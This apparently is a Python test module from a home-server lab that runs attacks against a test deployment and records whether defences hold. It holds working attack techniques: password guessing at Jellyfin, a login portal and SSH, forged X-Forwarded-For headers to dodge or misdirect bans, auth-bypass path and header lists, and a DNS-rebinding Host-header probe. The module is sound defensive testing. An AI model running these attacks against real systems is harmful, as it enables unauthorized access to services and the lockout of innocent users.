"""At the logins: guessing, lying about who guesses, and walking around them."""

from __future__ import annotations

import subprocess
import tempfile
import time
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from tests.lab.attacks.base import Outcome, attack, control
from tests.lab.attacks.network import INTERNET, LAN
from tests.lab.attacks.place import Place
from tests.lab.deployment import DOMAIN
from tests.lab.guesser import JELLYFIN, Guesser
from tests.lab.host import Host
from tests.lab.legacy.state import PASSWORD
from tests.lab.network import ATTACKER_NAMESPACE, NEIGHBOUR_NAMESPACE, Namespace
from tests.lab.rootfs import OPERATOR

GUESSES = 15
LOG_SECONDS = 10.0
CONTAINER = "Sonarr's container"
# Of the attacker's network, and nobody's.
VICTIM = "198.51.100.77"
FORGED: Mapping[str, str] = {
    "X-Forwarded-For": "127.0.0.1",
    "X-Real-Ip": "127.0.0.1",
    "X-Forwarded-Host": f"auth.{DOMAIN}",
    "X-Forwarded-Uri": "/api/health",
    "X-Forwarded-Method": "OPTIONS",
    "X-Original-Url": "/ping",
    "Remote-User": "alice",
    "Remote-Groups": "admins",
    "X_Remote_User": "alice",
}
# As the proxy asks, with what it says about the client.
GUESS = """
import http.client, socket, sys
player = socket.gethostbyname("jellyfin")
for address in sys.argv[1:]:
    link = http.client.HTTPConnection(player, 8096, timeout=10)
    headers = {
        "X-Forwarded-For": address,
        "Content-Type": "application/json",
        "Authorization": 'MediaBrowser Client="tv", Device="tv", DeviceId="tv", Version="1"',
    }
    body = '{"Username": "admin", "Pw": "guess"}'
    link.request("POST", "/Users/AuthenticateByName", body, headers)
    print(link.getresponse().status)
"""
KEY_PATHS = (
    "/initialize.json",
    "//initialize.json",
    "/%69nitialize.json",
    "/api/../initialize.json",
    "/api/%2e%2e/initialize.json",
    "/api/..%2finitialize.json",
    "/ping/..;/initialize.json",
    "/api/v3/..%5c..%5c..%5cinitialize.json",
)


def tried(guesser: Guesser, times: int) -> list[str]:
    """Bad logins at Jellyfin, one after the other, until nobody answers any more."""
    said: list[str] = []
    for _ in range(times):
        try:
            said += guesser.jellyfin(1, "admin")
        except subprocess.CalledProcessError as error:
            if "ConnectionRefused" not in error.stderr and "TimeoutError" not in error.stderr:
                raise
            return [*said, "no connection"]
    return said


def counted(said: list[str]) -> str:
    """How often each answer came."""
    kinds = {line: said.count(line) for line in said}
    return ", ".join(
        f"{number} times {line.removeprefix('HTTP/1.1 ')}" for line, number in kinds.items()
    )


@attack(INTERNET, "box 1.12", "box 7.1", "blocker 2")
def passwords_guessed_at_jellyfin(place: Place) -> Outcome:
    """A login that takes any number of guesses falls to a list of common passwords."""
    with place.stranger() as guesser:
        said = tried(guesser, GUESSES)
    control("401" in said[0], f"the first guess: {said[0]}")
    return Outcome(all("401" in line for line in said), counted(said))


@attack(INTERNET, "box 1.12", "box 7.1", "blocker 2")
def passwords_guessed_at_the_portal(place: Place) -> Outcome:
    """The same at the page that opens the rest: Grafana's login, or the portal's."""
    said = []
    url = place.url("auth", 3000, "/api/firstfactor" if place.is_hardened else "/login")
    names = ("username", "password") if place.is_hardened else ("user", "password")
    with place.stranger(6) as guesser, place.stranger() as source:
        control(guesser.reaches(443), "the proxy does not answer")
        for number in range(GUESSES):
            body = f'{{"{names[0]}": "admin", "{names[1]}": "guess{number}"}}'
            options = ["--interface", source.source, "-d", body]
            said.append(
                place.ask(ATTACKER_NAMESPACE, url, *options, "-H", "Content-Type: application/json")
            )
            if said[-1].status == 0:
                break
    lines = [str(answer) for answer in said]
    control(said[0].status == 401, f"the first guess: {said[0]}")
    return Outcome(all(answer.status == 401 for answer in said), counted(lines))


@attack(LAN, "box 1.12", "blocker 3")
def ssh_with_a_guessed_password(place: Place) -> Outcome:
    """One password for everything, from a list that everybody has."""
    said = ""
    for word in ("admin", "password", PASSWORD):
        done = ssh(place.host, NEIGHBOUR_NAMESPACE, word)
        if done.returncode == 0:
            return Outcome(True, f"{OPERATOR}: {done.stdout.strip()}")
        said = done.stderr.strip().splitlines()[-1]
        control("Permission denied" in said, f"SSH does not refuse but fail: {said}")
    keyed = NEIGHBOUR_NAMESPACE.run([*place.host.ssh_argv(OPERATOR), "id", "-un"])
    control(keyed.stdout.strip() == OPERATOR, "not even a key logs in")
    return Outcome(False, said.partition(": ")[2])


def ssh(host: Host, where: Namespace, password: str) -> subprocess.CompletedProcess[str]:
    """One login with a password."""
    options = {
        "PubkeyAuthentication": "no",
        "NumberOfPasswordPrompts": "1",
        "UserKnownHostsFile": str(host.known_hosts),
        "StrictHostKeyChecking": "yes",
        "ConnectTimeout": "5",
    }
    words = [word for name, value in options.items() for word in ("-o", f"{name}={value}")]
    with tempfile.TemporaryDirectory() as folder:
        ask = Path(folder) / "ask"
        ask.write_text(f"#!/bin/sh\necho {password}\n")
        ask.chmod(0o700)
        asked = ["env", f"SSH_ASKPASS={ask}", "SSH_ASKPASS_REQUIRE=force"]
        login = ["ssh", "-F", "none", *words, f"{OPERATOR}@{host.address}", "id"]
        return where.run([*asked, *login], check=False)


def accused(place: Place, since: float, times: int) -> list[str]:
    """Whom Jellyfin's log, which a ban would follow, has named since then, after so many guesses.

    Raises:
        ControlError: the log has not noted them all within 10 s.
    """
    argv = ["docker", "logs", f"--since={since:.3f}", place.container("jellyfin")]
    deadline = time.monotonic() + LOG_SECONDS
    while True:
        lines = place.host.run(argv).stdout.splitlines()
        denied = [line.partition("IP: ")[2] for line in lines if "has been denied" in line]
        if len(denied) >= times:
            return [text.strip('"). ') for text in denied]
        control(time.monotonic() < deadline, f"{len(denied)} of {times} guesses noted")
        time.sleep(0.5)


@attack(CONTAINER, "box 1.12", "blocker 4")
def a_forged_address_to_dodge_the_ban(place: Place) -> Outcome:
    """Where every container counts as the proxy, one of them is somebody new with every guess."""
    began = time.time()
    forged = [f"203.0.113.{number}" for number in range(1, 3)]
    said = place.python("sonarr", GUESS, *forged).stdout
    control(said.split() == ["401"] * len(forged), f"Jellyfin does not refuse: {said}")
    named = accused(place, began, len(forged))
    return Outcome(set(named) == set(forged), f"in the log: {', '.join(named)}")


@attack(f"{CONTAINER}, and the internet", "box 1.12", "blocker 4")
def a_forged_address_to_have_another_banned(place: Place) -> Outcome:
    """Who may say where he comes from gets anybody locked out whom he does not like."""
    began = time.time()
    with place.stranger() as guesser:
        tried(replace(guesser, headers={"X-Forwarded-For": VICTIM, "X-Real-Ip": VICTIM}), 2)
        place.python("sonarr", GUESS, VICTIM)
        named = accused(place, began, 3)
    return Outcome(VICTIM in named, f"accused in the log: {', '.join(sorted(set(named)))}")


@attack(LAN, "box 1.10", "blocker 2")
def a_login_walked_around_by_the_port_beside_it(place: Place) -> Outcome:
    """The proxy asks for a password, and the port next to it does not."""
    proxied = place.ask(NEIGHBOUR_NAMESPACE, f"https://sonarr.{DOMAIN}/")
    control(proxied.status in (302, 401), f"the proxy asks for no login: {proxied}")
    beside = place.ask(NEIGHBOUR_NAMESPACE, f"http://{place.address()}:8989/")
    return Outcome(beside.status == 200, f"the proxy: {proxied}; port 8989: {beside}")


@attack(LAN, "box 1.10", "blocker 2")
def a_login_walked_around_by_path_and_header(place: Place) -> Outcome:
    """A path spelt oddly, or a header that says who one is, gets the key behind the login."""
    headers = [word for name, value in FORGED.items() for word in ("-H", f"{name}: {value}")]
    seen: list[str] = []
    for path in KEY_PATHS:
        for forged in ([], headers):
            url = place.url("sonarr", 8989, path)
            said = place.ask(NEIGHBOUR_NAMESPACE, url, *forged)
            if said.status == 200 and "apiKey" in said.text:
                return Outcome(True, f"{path}: {said.text.splitlines()[-1][:48]}...")
            seen.append(str(said))
    control(all(line.startswith("HTTP") for line in seen), f"no answer: {counted(seen)}")
    return Outcome(False, counted(seen))


@attack("web page in a browser of the LAN", "box 1.3", "blocker 5")
def a_page_that_takes_the_host_s_address(place: Place) -> Outcome:
    """DNS rebinding: a stranger's name points to the host, and the browser is let in under it."""
    stranger, path = "evil.example", "/api/v2/torrents/info"
    if not place.is_hardened:
        said = place.ask(
            NEIGHBOUR_NAMESPACE,
            f"http://{place.address()}:8080{path}",
            "-H",
            f"Host: {stranger}:8080",
        )
        return Outcome(
            said.status == 200, f"Host: {stranger}: {said}, {said.text.splitlines()[-1][:60]}..."
        )
    name = place.ask(NEIGHBOUR_NAMESPACE, f"https://{stranger}{path}")
    host = place.ask(
        NEIGHBOUR_NAMESPACE, f"https://sabnzbd.{DOMAIN}{path}", "-H", f"Host: {stranger}"
    )
    own = place.ask(NEIGHBOUR_NAMESPACE, f"https://{JELLYFIN}/")
    control(own.status > 0, f"not even its own name is answered: {own}")
    reached = 200 in (name.status, host.status)
    return Outcome(reached, f"{stranger}: {name}; as Host alone: {host}")


ATTACKS = (
    passwords_guessed_at_jellyfin,
    passwords_guessed_at_the_portal,
    ssh_with_a_guessed_password,
    a_forged_address_to_dodge_the_ban,
    a_forged_address_to_have_another_banned,
    a_login_walked_around_by_the_port_beside_it,
    a_login_walked_around_by_path_and_header,
    a_page_that_takes_the_host_s_address,
)
